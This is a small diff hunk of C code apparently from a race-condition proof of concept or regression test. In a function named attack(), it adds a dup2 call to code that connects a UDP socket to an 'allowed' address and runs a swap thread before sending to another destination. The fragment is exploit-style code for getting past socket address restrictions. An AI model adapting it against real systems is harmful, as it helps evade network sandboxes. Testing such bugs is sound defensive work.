@@ -22,6 +22,7 @@ static void attack(void) {
   sockets[0] = udp(AF_INET);
   sockets[1] = udp(AF_INET);
   if (connect(sockets[0], ADDRESS(allowed)) < 0) broken("connect");
+  dup2(sockets[0], kNumber);
   thread(swap, NULL);
   struct iovec part = {"x", 1};
   struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
